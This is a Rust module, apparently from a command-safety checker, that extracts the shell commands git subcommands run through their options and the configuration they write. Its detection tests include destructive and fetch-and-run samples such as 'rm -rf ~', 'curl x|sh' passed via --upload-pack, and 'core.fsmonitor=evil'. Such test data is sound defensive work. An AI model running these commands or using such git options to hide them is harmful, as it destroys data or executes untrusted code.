//! What a git command runs, or configures for later, through its own options and arguments.
//!
//! Configuration given with `-c` is in [`super::GitArgv::config`]; this module finds the rest: shell
//! text a subcommand runs (`git rebase --exec 'make test'`, `git bisect run ./t.sh`, `git submodule
//! foreach 'rm -rf .'`, `git filter-branch --tree-filter …`, `git push --receive-pack=…`) and
//! configuration a command writes (`git config core.hooksPath /dev/null`, `git clone -c k=v`,
//! `--template=dir`). The one design decision: both are handed back as data — shell text to analyse
//! like any command line, configuration to judge with [`super::config_effect`] — so one judgement
//! covers `-c`, `git config` and `git clone --config` alike.

use super::argv::{GitArgv, normalise_key};
use super::command::{Arg, Opt, PUSH, SEND_PACK, Takes, opt, parse, positionals, short_only};

/// Shell text the command runs because of its own options or arguments, in order.
pub(crate) fn commands_run(argv: &GitArgv) -> Vec<String> {
    let Some(sub) = argv.subcommand() else {
        return Vec::new();
    };
    let rest = argv.args.get(1..).unwrap_or_default();
    let (table, runs): (&[Opt], &[&str]) = match sub {
        "rebase" => (REBASE, &["exec"]),
        "push" => (PUSH, &["receive-pack", "exec"]),
        "send-pack" => (SEND_PACK, &["receive-pack", "exec"]),
        "fetch" | "pull" | "ls-remote" | "fetch-pack" => (FETCH, &["upload-pack", "exec"]),
        "clone" => (CLONE, &["upload-pack"]),
        "archive" => (ARCHIVE, &["exec"]),
        "filter-branch" => (FILTER_BRANCH, FILTERS),
        "difftool" => (DIFFTOOL, &["extcmd"]),
        "grep" => (GREP, &["open-files-in-pager"]),
        "send-email" => (
            SEND_EMAIL,
            &["sendmail-cmd", "to-cmd", "cc-cmd", "header-cmd", "smtp-server"],
        ),
        "bisect" => return after(rest, "run", &[]),
        "submodule" => return after(rest, "foreach", &["--recursive", "-q", "--quiet"]),
        _ => return Vec::new(),
    };
    parse(table, rest)
        .into_iter()
        .filter_map(|a| match a {
            Arg::Opt {
                name,
                negated: false,
                value: Some(v),
            } if runs.contains(&name) && !v.is_empty() => Some((name, v)),
            _ => None,
        })
        // `--smtp-server` is a program only when it is a path.
        .filter(|(name, v)| *name != "smtp-server" || v.starts_with('/'))
        .map(|(_, v)| v)
        .collect()
}

/// The command after `word` (`bisect run …`, `submodule foreach …`): one argument is shell text,
/// several are a program and its arguments.
fn after(args: &[String], word: &str, skip: &[&str]) -> Vec<String> {
    let Some(at) = args.iter().position(|a| a == word) else {
        return Vec::new();
    };
    let command: Vec<&String> = args[at + 1..]
        .iter()
        .skip_while(|a| skip.contains(&a.as_str()))
        .collect();
    match command.as_slice() {
        [] => Vec::new(),
        [one] => vec![(*one).clone()],
        many => vec![many.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ")],
    }
}

/// A word as shell text: single-quoted unless it is plain.
fn quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | '=' | ':' | ',' | '+' | '@'));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// Configuration the command writes for later commands: `(key, value)`, keys normalised like
/// [`super::GitArgv::config`]'s.
pub(crate) fn config_written(argv: &GitArgv) -> Vec<(String, String)> {
    let Some(sub) = argv.subcommand() else {
        return Vec::new();
    };
    let rest = argv.args.get(1..).unwrap_or_default();
    match sub {
        "config" => git_config(&parse(CONFIG, rest)),
        "clone" | "init" => parse(if sub == "clone" { CLONE } else { INIT }, rest)
            .into_iter()
            .filter_map(|a| match a {
                Arg::Opt {
                    name: "config",
                    value: Some(pair),
                    ..
                } => {
                    let (key, value) = pair.split_once('=').unwrap_or((pair.as_str(), "true"));
                    Some((normalise_key(key), value.to_owned()))
                }
                // A template directory's hooks are copied in, and run (`post-checkout` during clone).
                Arg::Opt {
                    name: "template",
                    value: Some(dir),
                    ..
                } => Some(("init.templatedir".to_owned(), dir)),
                _ => None,
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// `git config`: `<name> <value>`, `--add`/`--replace-all <name> <value>`, `set <name> <value>`.
fn git_config(args: &[Arg]) -> Vec<(String, String)> {
    let reads = args
        .iter()
        .any(|a| matches!(a, Arg::Opt { name, negated: false, .. } if CONFIG_NOT_WRITING.contains(name)));
    let words = positionals(args);
    let pair = match words.as_slice() {
        _ if reads => None,
        ["set", name, value, ..] => Some((name, value)),
        [first, ..] if CONFIG_SUBCOMMANDS.contains(first) => None,
        [name, value, ..] => Some((name, value)),
        _ => None,
    };
    pair.map(|(name, value)| vec![(normalise_key(name), (*value).to_owned())])
        .unwrap_or_default()
}

/// `git config` subcommands that write nothing (`set` is the one that writes).
const CONFIG_SUBCOMMANDS: [&str; 7] = [
    "get",
    "list",
    "unset",
    "rename-section",
    "remove-section",
    "edit",
    "get-color",
];

/// `git config` actions that read or remove rather than write.
const CONFIG_NOT_WRITING: [&str; 12] = [
    "get",
    "get-all",
    "get-regexp",
    "get-urlmatch",
    "unset",
    "unset-all",
    "rename-section",
    "remove-section",
    "list",
    "edit",
    "get-color",
    "get-colorbool",
];

const CONFIG: &[Opt] = &[
    opt("global", None, Takes::Nothing),
    opt("system", None, Takes::Nothing),
    opt("local", None, Takes::Nothing),
    opt("worktree", None, Takes::Nothing),
    opt("file", Some('f'), Takes::Next),
    opt("blob", None, Takes::Next),
    opt("type", Some('t'), Takes::Next),
    opt("bool", None, Takes::Nothing),
    opt("int", None, Takes::Nothing),
    opt("bool-or-int", None, Takes::Nothing),
    opt("path", None, Takes::Nothing),
    opt("expiry-date", None, Takes::Nothing),
    opt("default", None, Takes::Next),
    opt("comment", None, Takes::Next),
    opt("value", None, Takes::Next),
    opt("url", None, Takes::Next),
    opt("fixed-value", None, Takes::Nothing),
    opt("show-origin", None, Takes::Nothing),
    opt("show-scope", None, Takes::Nothing),
    opt("null", Some('z'), Takes::Nothing),
    opt("name-only", None, Takes::Nothing),
    opt("includes", None, Takes::Nothing),
    opt("all", None, Takes::Nothing),
    opt("append", None, Takes::Nothing),
    opt("regexp", None, Takes::Nothing),
    opt("add", None, Takes::Nothing),
    opt("replace-all", None, Takes::Nothing),
    opt("get", None, Takes::Nothing),
    opt("get-all", None, Takes::Nothing),
    opt("get-regexp", None, Takes::Nothing),
    opt("get-urlmatch", None, Takes::Nothing),
    opt("unset", None, Takes::Nothing),
    opt("unset-all", None, Takes::Nothing),
    opt("rename-section", None, Takes::Nothing),
    opt("remove-section", None, Takes::Nothing),
    opt("list", Some('l'), Takes::Nothing),
    opt("edit", Some('e'), Takes::Nothing),
    opt("get-color", None, Takes::Nothing),
    opt("get-colorbool", None, Takes::Nothing),
];

const REBASE: &[Opt] = &[
    opt("exec", Some('x'), Takes::Next),
    opt("onto", None, Takes::Next),
    opt("strategy", Some('s'), Takes::Next),
    opt("strategy-option", Some('X'), Takes::Next),
    opt("whitespace", None, Takes::Next),
    opt("gpg-sign", Some('S'), Takes::Attached),
    opt("interactive", Some('i'), Takes::Nothing),
];

const FETCH: &[Opt] = &[
    opt("upload-pack", None, Takes::Next),
    opt("exec", None, Takes::Next),
    opt("depth", None, Takes::Next),
    opt("deepen", None, Takes::Next),
    opt("shallow-since", None, Takes::Next),
    opt("shallow-exclude", None, Takes::Next),
    opt("refmap", None, Takes::Next),
    opt("server-option", Some('o'), Takes::Next),
    opt("jobs", Some('j'), Takes::Next),
    opt("negotiation-tip", None, Takes::Next),
    opt("filter", None, Takes::Next),
    opt("strategy", Some('s'), Takes::Next),
    opt("strategy-option", Some('X'), Takes::Next),
];

const CLONE: &[Opt] = &[
    opt("upload-pack", Some('u'), Takes::Next),
    opt("config", Some('c'), Takes::Next),
    opt("template", None, Takes::Next),
    opt("origin", Some('o'), Takes::Next),
    opt("branch", Some('b'), Takes::Next),
    opt("reference", None, Takes::Next),
    opt("reference-if-able", None, Takes::Next),
    opt("separate-git-dir", None, Takes::Next),
    opt("depth", None, Takes::Next),
    opt("shallow-since", None, Takes::Next),
    opt("shallow-exclude", None, Takes::Next),
    opt("jobs", Some('j'), Takes::Next),
    opt("filter", None, Takes::Next),
    opt("server-option", None, Takes::Next),
    opt("bundle-uri", None, Takes::Next),
    opt("ref-format", None, Takes::Next),
    opt("revision", None, Takes::Next),
];

const INIT: &[Opt] = &[
    opt("template", None, Takes::Next),
    opt("separate-git-dir", None, Takes::Next),
    opt("object-format", None, Takes::Next),
    opt("ref-format", None, Takes::Next),
    opt("initial-branch", Some('b'), Takes::Next),
    opt("shared", None, Takes::Attached),
];

const ARCHIVE: &[Opt] = &[
    opt("exec", None, Takes::Next),
    opt("remote", None, Takes::Next),
    opt("output", Some('o'), Takes::Next),
    opt("prefix", None, Takes::Next),
    opt("format", None, Takes::Next),
    opt("add-file", None, Takes::Next),
    opt("add-virtual-file", None, Takes::Next),
    opt("mtime", None, Takes::Next),
];

/// filter-branch options whose value is shell code.
const FILTERS: &[&str] = &[
    "setup",
    "env-filter",
    "tree-filter",
    "index-filter",
    "parent-filter",
    "msg-filter",
    "commit-filter",
    "tag-name-filter",
];

const FILTER_BRANCH: &[Opt] = &[
    opt("setup", None, Takes::Next),
    opt("env-filter", None, Takes::Next),
    opt("tree-filter", None, Takes::Next),
    opt("index-filter", None, Takes::Next),
    opt("parent-filter", None, Takes::Next),
    opt("msg-filter", None, Takes::Next),
    opt("commit-filter", None, Takes::Next),
    opt("tag-name-filter", None, Takes::Next),
    opt("subdirectory-filter", None, Takes::Next),
    opt("original", None, Takes::Next),
    opt("state-branch", None, Takes::Next),
    short_only("d", 'd'),
];

const DIFFTOOL: &[Opt] = &[
    opt("extcmd", Some('x'), Takes::Next),
    opt("tool", Some('t'), Takes::Next),
];

const GREP: &[Opt] = &[
    opt("open-files-in-pager", Some('O'), Takes::Attached),
    Opt {
        name: "e",
        long: false,
        short: Some('e'),
        takes: Takes::Next,
    },
    Opt {
        name: "f",
        long: false,
        short: Some('f'),
        takes: Takes::Next,
    },
    opt("max-depth", None, Takes::Next),
    opt("max-count", Some('m'), Takes::Next),
    opt("after-context", Some('A'), Takes::Next),
    opt("before-context", Some('B'), Takes::Next),
    opt("context", Some('C'), Takes::Next),
    opt("threads", None, Takes::Next),
];

const SEND_EMAIL: &[Opt] = &[
    opt("sendmail-cmd", None, Takes::Next),
    opt("to-cmd", None, Takes::Next),
    opt("cc-cmd", None, Takes::Next),
    opt("header-cmd", None, Takes::Next),
    opt("smtp-server", None, Takes::Next),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::git::read_git_argv;

    fn argv(words: &[&str]) -> GitArgv {
        read_git_argv(&words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>())
    }

    fn runs(words: &[&str]) -> Vec<String> {
        commands_run(&argv(words))
    }

    fn writes(words: &[&str]) -> Vec<(String, String)> {
        config_written(&argv(words))
    }

    fn pair(key: &str, value: &str) -> Vec<(String, String)> {
        vec![(key.to_owned(), value.to_owned())]
    }

    /// `rebase --exec`/`-x` runs its value, in every spelling.
    #[test]
    fn rebase_exec() {
        for words in [
            &["rebase", "--exec", "rm -rf ~", "main"][..],
            &["rebase", "--exec=rm -rf ~", "main"],
            &["rebase", "-x", "rm -rf ~", "main"],
            &["rebase", "-xrm -rf ~", "main"],
            &["rebase", "-i", "--exe", "rm -rf ~", "main"],
            &["-C", "repo", "rebase", "main", "-x", "rm -rf ~"],
        ] {
            assert_eq!(runs(words), vec!["rm -rf ~".to_owned()], "{words:?}");
        }
        assert!(runs(&["rebase", "main"]).is_empty());
    }

    /// `bisect run` and `submodule foreach` run the rest of the line.
    #[test]
    fn run_the_rest() {
        assert_eq!(
            runs(&["bisect", "run", "sh", "-c", "rm -rf ~"]),
            vec!["sh -c 'rm -rf ~'".to_owned()]
        );
        assert_eq!(runs(&["submodule", "foreach", "rm -rf ."]), vec!["rm -rf .".to_owned()]);
        assert_eq!(
            runs(&["submodule", "--quiet", "foreach", "--recursive", "git", "clean", "-fdx"]),
            vec!["git clean -fdx".to_owned()]
        );
        assert!(runs(&["bisect", "start"]).is_empty());
        assert!(runs(&["submodule", "update", "--init"]).is_empty());
    }

    /// Programs named by transport options run (locally, for a path remote).
    #[test]
    fn transport_programs() {
        for words in [
            &["push", "--receive-pack=curl x|sh", "origin", "main"][..],
            &["push", "--exec", "curl x|sh", "origin"],
            &["fetch", "--upload-pack", "curl x|sh", "/srv/repo"],
            &["pull", "--upload-pack=curl x|sh"],
            &["ls-remote", "--upload-pack", "curl x|sh", "/srv/repo"],
            &["clone", "-u", "curl x|sh", "/srv/repo"],
            &["clone", "--upload-pack=curl x|sh", "/srv/repo"],
            &["archive", "--remote=/srv/repo", "--exec=curl x|sh", "HEAD"],
        ] {
            assert_eq!(runs(words), vec!["curl x|sh".to_owned()], "{words:?}");
        }
        assert!(runs(&["push", "-u", "origin", "main"]).is_empty());
        assert!(runs(&["fetch", "origin"]).is_empty());
    }

    /// filter-branch filters, difftool commands, grep's pager and send-email's commands run.
    #[test]
    fn other_command_options() {
        assert_eq!(
            runs(&["filter-branch", "--tree-filter", "rm -rf x", "HEAD"]),
            vec!["rm -rf x".to_owned()]
        );
        assert_eq!(
            runs(&[
                "filter-branch",
                "--env-filter=a",
                "--msg-filter",
                "b",
                "--index-filter",
                "c"
            ]),
            vec!["a".to_owned(), "b".to_owned(), "c".to_owned()]
        );
        assert_eq!(runs(&["difftool", "-x", "evil", "HEAD"]), vec!["evil".to_owned()]);
        assert_eq!(runs(&["difftool", "--extcmd=evil"]), vec!["evil".to_owned()]);
        assert_eq!(runs(&["grep", "-Oevil", "x"]), vec!["evil".to_owned()]);
        assert_eq!(
            runs(&["grep", "--open-files-in-pager=evil", "x"]),
            vec!["evil".to_owned()]
        );
        assert_eq!(
            runs(&["send-email", "--sendmail-cmd=evil", "a.patch"]),
            vec!["evil".to_owned()]
        );
        assert_eq!(
            runs(&["send-email", "--to-cmd", "evil", "a.patch"]),
            vec!["evil".to_owned()]
        );
        assert!(runs(&["grep", "-O", "x"]).is_empty());
        assert!(runs(&["difftool", "--tool=vimdiff"]).is_empty());
    }

    /// A `!`-alias's script is not read as a git command.
    #[test]
    fn shell_alias_arguments_are_not_options() {
        assert!(runs(&["-c", "alias.r=!echo", "r", "--exec", "x"]).is_empty());
    }

    /// `git config` writes, in the old and the new syntax, with any scope option.
    #[test]
    fn git_config_writes() {
        for words in [
            &["config", "core.hooksPath", "/dev/null"][..],
            &["config", "--global", "core.hooksPath", "/dev/null"],
            &["config", "--file", "x", "core.hooksPath", "/dev/null"],
            &["config", "-f", "x", "core.hooksPath", "/dev/null"],
            &["config", "--add", "core.hooksPath", "/dev/null"],
            &["config", "--replace-all", "core.hooksPath", "/dev/null"],
            &["config", "set", "core.hooksPath", "/dev/null"],
            &["config", "set", "--global", "core.hooksPath", "/dev/null"],
            &["config", "--type=path", "core.hooksPath", "/dev/null"],
            &["config", "--type", "path", "core.hooksPath", "/dev/null"],
            &["config", "Core.HooksPath", "/dev/null"],
        ] {
            assert_eq!(writes(words), pair("core.hookspath", "/dev/null"), "{words:?}");
        }
    }

    /// Reading or removing configuration writes nothing.
    #[test]
    fn git_config_reads() {
        for words in [
            &["config", "core.hooksPath"][..],
            &["config", "--get", "core.hooksPath"],
            &["config", "--get-all", "remote.origin.url"],
            &["config", "--get-regexp", "alias", "x"],
            &["config", "--get-urlmatch", "http", "https://x"],
            &["config", "get", "core.hooksPath"],
            &["config", "--unset", "core.hooksPath"],
            &["config", "unset", "core.hooksPath"],
            &["config", "-l"],
            &["config", "list"],
            &["config", "--rename-section", "a", "b"],
        ] {
            assert!(writes(words).is_empty(), "{words:?}");
        }
    }

    /// `clone`/`init`/`submodule add` configuration and templates are writes too.
    #[test]
    fn clone_and_init_writes() {
        assert_eq!(
            writes(&["clone", "-c", "core.fsmonitor=evil", "url"]),
            pair("core.fsmonitor", "evil")
        );
        assert_eq!(
            writes(&["clone", "--config", "core.fsmonitor=evil", "url"]),
            pair("core.fsmonitor", "evil")
        );
        assert_eq!(
            writes(&["clone", "--config=core.fsmonitor=evil", "url"]),
            pair("core.fsmonitor", "evil")
        );
        assert_eq!(
            writes(&["clone", "--template=/tmp/t", "url"]),
            pair("init.templatedir", "/tmp/t")
        );
        assert_eq!(
            writes(&["init", "--template", "/tmp/t"]),
            pair("init.templatedir", "/tmp/t")
        );
        assert!(writes(&["clone", "-b", "main", "url"]).is_empty());
    }
}
